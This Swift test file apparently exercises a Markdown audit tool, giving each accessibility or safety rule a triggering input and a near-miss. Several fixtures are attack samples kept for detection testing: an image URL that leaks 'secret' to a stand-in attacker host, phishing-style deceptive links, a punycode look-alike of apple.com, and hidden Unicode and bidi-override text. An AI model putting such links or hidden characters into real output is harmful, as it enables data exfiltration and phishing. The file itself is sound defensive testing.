import LegibleAudit
import Testing

/// Every rule, with a document that triggers it (and where the finding starts) and a close miss
/// that must not.
@Suite("Rules: a document that triggers each, and a close miss")
struct RuleTests {
    struct Case: CustomTestStringConvertible, Sendable {
        let rule: String
        let triggering: String
        let expectedStarts: [String]
        let closeMiss: String
        var testDescription: String { rule }
    }

    static let cases: [Case] = [
        Case(rule: "image-alt-missing", triggering: "See:\n\n![](sales-chart.png)", expectedStarts: ["3:1"],
             closeMiss: "See:\n\n![Sales doubled in May](sales-chart.png)"),
        Case(rule: "image-alt-generic", triggering: "![Screenshot](a.png) ![IMG_2041.jpg](b.png) <img src=\"c.png\" alt=\"picture\">",
             expectedStarts: ["1:1", "1:22", "1:45"],
             closeMiss: "![Screenshot of the settings window](a.png) <img src=\"c.png\" alt=\"\">"),
        Case(rule: "image-alt-repeats-caption", triggering: "![Figure 2: Rainfall](rain.png)\n\n*Figure 2: Rainfall*", expectedStarts: ["1:1"],
             closeMiss: "![Bars peak in December](rain.png)\n\n*Figure 2: Rainfall*"),
        Case(rule: "html-img-alt-missing", triggering: "Logo: <img src=\"logo.svg\" width=\"40\">", expectedStarts: ["1:7"],
             closeMiss: "Logo: <img src=\"logo.svg\" width=\"40\" alt=\"\">"),
        Case(rule: "link-text-empty", triggering: "Get the [](https://example.com/report.pdf).", expectedStarts: ["1:9"],
             closeMiss: "Get the [![Annual report](cover.png)](https://example.com/report.pdf)."),
        Case(rule: "link-text-vague", triggering: "To install, [click here](https://example.com/install).", expectedStarts: ["1:13"],
             closeMiss: "Follow the [installation guide](https://example.com/install) (click here)."),
        Case(rule: "link-text-url",
             triggering: "See https://github.com/apple/swift-evolution/blob/main/proposals/0401.md today.", expectedStarts: ["1:5"],
             closeMiss: "See https://swift.org/documentation/ and [SE-0401](https://github.com/apple/swift-evolution/blob/main/proposals/0401.md)."),
        Case(rule: "link-text-ambiguous",
             triggering: "[Docs](https://a.com/v1) and [docs](https://a.com/v2) and [Docs](https://a.com/v1/)", expectedStarts: ["1:30"],
             closeMiss: "[Docs](https://a.com/v1) and [docs](https://a.com/v1/) and [here](https://b.com) and [here](https://c.com)"),
        Case(rule: "heading-level-skipped", triggering: "# A\n\n## B\n\n#### C\n\n## D", expectedStarts: ["5:1"],
             closeMiss: "## A\n\n### B\n\n#### C\n\n# D"),
        Case(rule: "heading-empty", triggering: "# Title\n\n##\n\nText.", expectedStarts: ["3:1"],
             closeMiss: "# Title\n\n## `code`\n\nText."),
        Case(rule: "headings-missing", triggering: String(repeating: "Word ", count: 500), expectedStarts: ["1:1"],
             closeMiss: String(repeating: "Word ", count: 499) + "\n\n```\n" + String(repeating: "code ", count: 100) + "\n```"),
        Case(rule: "heading-top-level-multiple", triggering: "# One\n\ntext\n\n# Two\n\nSecond\n======", expectedStarts: ["5:1", "7:1"],
             closeMiss: "# One\n\n## Two\n\n    # not a heading"),
        Case(rule: "bold-paragraph-as-heading", triggering: "**Installation:**\n\nRun the installer.", expectedStarts: ["1:1"],
             closeMiss: "**Warning: this deletes everything.**\n\n**Note:** text after it.\n\n**[Back to top](#top)**\n\n- **Item**\n\n**Last**"),
        Case(rule: "table-header-missing", triggering: "| | |\n|---|---|\n| a | b |\n\n<table><tr><td>1</td></tr><tr><td>2</td></tr></table>",
             expectedStarts: ["1:1", "5:1"],
             closeMiss: "| A | B |\n|---|---|\n| a | b |\n\n<table><tr><td><img src=\"a.png\" alt=\"A\"></td><td>B</td></tr></table>"),
        Case(rule: "table-header-cell-empty", triggering: "| | Mon |\n|---|---|\n| Lisbon | 21° |", expectedStarts: ["1:1"],
             closeMiss: "| City | Mon |\n|---|---|\n| | 21° |"),
        Case(rule: "table-single-column", triggering: "| Ingredients |\n|---|\n| Flour |", expectedStarts: ["1:1"],
             closeMiss: "| Ingredient | Amount |\n|---|---|\n| Flour | 200 g |"),
        Case(rule: "code-block-language-missing", triggering: "```\nprint(1)\n```\n\n    indented", expectedStarts: ["1:1", "5:5"],
             closeMiss: "```python\nprint(1)\n```\n\n~~~ text\nplain\n~~~"),
        Case(rule: "math-speech-long",
             triggering: "$$\\sum_{i=1}^{n} \\frac{a_i + b_i}{c_i - d_i} + \\prod_{j=1}^{m} \\sqrt{x_j^2 + y_j^2} + \\int_0^1 \\frac{f(t)}{g(t) + h(t)} dt + \\frac{\\partial^2 L}{\\partial w_1 \\partial w_2}$$",
             expectedStarts: ["1:1"],
             // The second formula cannot be read as math: it is read as its TeX, which math-unreadable reports.
             closeMiss: "$$\\sum_{i=1}^{n} \\frac{a_i + b_i}{c_i - d_i}$$\n\n$$\\foo " + String(repeating: "a + ", count: 40) + "b$$"),
        Case(rule: "math-unreadable", triggering: "$\\frac{a}{b$ and $\\foo x$ and $\\left( x$", expectedStarts: ["1:1", "1:18", "1:31"],
             closeMiss: "$\\frac{a}{b}$ and $\\mathbb{R}^n$ and $\\left( x \\right)$ and $a \\\\ b$ and $\\begin{matrix} 1 \\end{matrix}$ and $x\u{200B}+1$"),
        Case(rule: "emoji-bullets", triggering: "✅ Fast\n✅ Small\n❌ Simple", expectedStarts: ["1:1"],
             closeMiss: "✅ Fast and small.\n\n- ✅ Fast\n- ✅ Small\n\nIt is #1\n2 ways"),
        Case(rule: "emoji-run", triggering: "Rating: ⭐⭐⭐⭐ and 🔥 🔥 🔥", expectedStarts: ["1:9", "1:26"],
             closeMiss: "Rating: ⭐⭐ and © ® ™ and 1 2 3"),
        Case(rule: "all-caps-run", triggering: "Please READ THE WHOLE GUIDE first.", expectedStarts: ["1:8"],
             closeMiss: "Use HTML CSS JSON, or HTTP(S), FTP, SFTP, and MAX_SIZE U+00BC U+00BE U+00C0 and DO NOT."),
        Case(rule: "link-anchor-missing", triggering: "## Getting started\n\nSee [setup](#setup) and [again](#getting-started-1) and <a href=\"#faq\">FAQ</a>.",
             expectedStarts: ["3:5", "3:25", "3:57"],
             closeMiss: "## Getting started\n\n## Getting started\n\n<a name=\"setup\"></a>[a](#getting-started) [b](#getting-started-1) [c](#setup) [top](#top)"),
        Case(rule: "footnote-reference-undefined", triggering: "Light is fast.[^speed]", expectedStarts: ["1:15"],
             closeMiss: "Light is fast.[^speed] And `[^code]` and \\[^escaped].\n\n[^speed]: 300,000 km/s."),
        Case(rule: "footnote-definition-unused", triggering: "Light is fast.\n\n[^speed]: 300,000 km/s.", expectedStarts: ["3:1"],
             closeMiss: "Light is fast.[^speed]\n\n[^speed]: 300,000 km/s."),
        Case(rule: "language-change-unmarked", triggering: "The greeting is Добро пожаловать в Москву, as they say in Russia.", expectedStarts: ["1:17"],
             closeMiss: "The greeting is <span lang=\"ru\">Добро пожаловать в Москву</span>.\n\nThe letter π and the name Пётр are terms."),
        Case(rule: "image-remote", triggering: "![chart](https://attacker.example/log?q=secret)\n\n<img src=\"//cdn.example/a.png\" alt=\"a\">",
             expectedStarts: ["1:1", "3:1"],
             closeMiss: "![chart](chart.png) ![dot](data:image/png;base64,iVBORw0KGgo=) <img src=\"b.png\" alt=\"b\">"),
        Case(rule: "link-text-deceptive",
             triggering: "[https://bank.example.com/login](https://bank-example.attacker.test/login) and [support@bank.example](mailto:x@evil.test)",
             expectedStarts: ["1:1", "1:80"],
             closeMiss: "[example.com](https://docs.example.com/) [README.md](https://github.com/o/r/blob/main/README.md) [Node.js](https://nodejs.org/)"),
        Case(rule: "link-host-look-alike", triggering: "[Apple](https://xn--pple-43d.com/) and [аpple.com](https://xn--pple-43d.com/)",
             expectedStarts: ["1:1", "1:40"],
             closeMiss: "[München](https://xn--mnchen-3ya.de/) and [пример](https://пример.рф/) and [apple.com](https://apple.com/)"),
        Case(rule: "hidden-text", triggering: "Fine.\u{E0049}\u{E0067}\n\n`pass\u{200B}word`\n\nSum $x\u{200B}+\u{202E}1$", expectedStarts: ["1:1", "3:1", "5:5"],
             closeMiss: "می‌خواهم 👨‍👩‍👧 Donau\u{AD}dampf ☺\u{FE0F} 🏴󠁧󠁢󠁳󠁣󠁴󠁿"),
        Case(rule: "bidi-control-in-code", triggering: "`a\u{202E}b`\n\n```\nx\u{2066}y\n```", expectedStarts: ["1:1", "3:1"],
             closeMiss: "Say \u{2067}שלום\u{2069} and `\"שלום\"`"),
        Case(rule: "bidi-control-unbalanced", triggering: "Total: \u{202E}0001\u{202C} dollars\n\nOpen \u{2067}never closed",
             expectedStarts: ["1:1", "3:1"],
             closeMiss: "The word \u{2067}שלום\u{2069} means peace; מחיר: 5\u{200F}$"),
    ]

    @Test("triggers", arguments: cases)
    func triggers(_ example: Case) {
        #expect(starts(findings(example.triggering, rule: example.rule)) == example.expectedStarts)
    }

    @Test("close miss", arguments: cases)
    func closeMiss(_ example: Case) {
        #expect(findings(example.closeMiss, rule: example.rule).isEmpty)
    }

    @Test("link-anchor-missing: a link to an author's id on any HTML element, or to a heading's anchor in another case, lands")
    func anchorsThatLand() {
        #expect(findings("## Setup\n\n<div id=\"usage\">How</div>\n\n[a](#usage) [b](#SETUP) [c](#nowhere)", rule: "link-anchor-missing").count == 1)
    }

    @Test("every rule has a case")
    func everyRuleCovered() {
        let covered = Set(Self.cases.map(\.rule)).union(["encoding-invalid"])
        #expect(Set(Auditor.rules.map(\.id)) == covered)
    }

    @Test("encoding-invalid: bytes that are not UTF-8, and a NUL, are found where they start")
    func invalidEncoding() {
        let auditor = Auditor()
        let latin1: [UInt8] = Array("# Caf".utf8) + [0xE9] + Array("\n\nok\u{0}".utf8)
        let found = auditor.audit(markdown: latin1).filter { $0.ruleID == "encoding-invalid" }
        #expect(starts(found) == ["1:6"])
        #expect(found.first?.message.hasPrefix("This file has 2 byte sequences") == true)
        #expect(auditor.audit(markdown: Array("# Café\n".utf8)).filter { $0.ruleID == "encoding-invalid" }.isEmpty)
    }
}
